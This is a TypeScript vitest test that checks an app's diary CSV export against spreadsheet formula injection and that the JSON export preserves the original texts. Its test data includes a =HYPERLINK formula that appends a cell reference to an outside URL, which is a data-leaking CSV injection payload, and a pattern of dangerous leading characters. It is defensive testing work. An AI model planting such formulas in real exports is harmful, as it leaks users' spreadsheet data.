import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerUser } from '../../test/factories.js';
import { createTestApp, type TestApp } from '../../test/test-app.js';
import { unzipText } from '../../test/zip.js';
import { csvRow, parseCsv } from '../../lib/csv.js';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

describe('the diary CSV of the export', () => {
  it('never holds a live spreadsheet formula, and the JSON keeps every text exactly', async () => {
    const person = await registerUser(t);
    const texts = ['=HYPERLINK("https://example.com/?d="&A1,"ver")', '+34 600 000 000', '-1 de ánimo hoy', '@SUMA(1;2)', 'Un día normal = bueno'];
    for (const description of texts) {
      const written = await t.app.inject({ method: 'POST', url: '/api/diary/entry', headers: person.auth, payload: { feeling: 'GOOD', description } });
      expect(written.statusCode).toBe(201);
    }
    const exported = await t.app.inject({ method: 'GET', url: '/api/account/export', headers: person.auth });
    expect(exported.statusCode).toBe(200);
    const parsed = await parseCsv(await unzipText(exported.rawPayload, 'diary.csv'), { maxRecords: 100, maxFieldLength: 10_000 });
    if (!('records' in parsed)) throw new Error(`the exported CSV does not parse: ${parsed.problem}`);
    const rows = parsed.records.slice(1);
    const cells = rows.map((row) => row.fields[2]).sort();
    expect(cells).toEqual(
      [`'+34 600 000 000`, `'-1 de ánimo hoy`, `'=HYPERLINK("https://example.com/?d="&A1,"ver")`, `'@SUMA(1;2)`, 'Un día normal = bueno'].sort(),
    );
    for (const row of rows) for (const cell of row.fields) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);

    const document = JSON.parse(await unzipText(exported.rawPayload, 'sendero-export.json')) as { diaryRecords: { description: string }[] };
    expect(document.diaryRecords.map((record) => record.description).sort()).toEqual([...texts].sort());
  });

  it('neutralises a leading tab or carriage return too, inside RFC 4180 quoting', () => {
    expect(csvRow(['\tcmd', '\r=1+1', 'normal', '', null])).toBe(`'\tcmd,"'\r=1+1",normal,,\r\n`);
  });
});
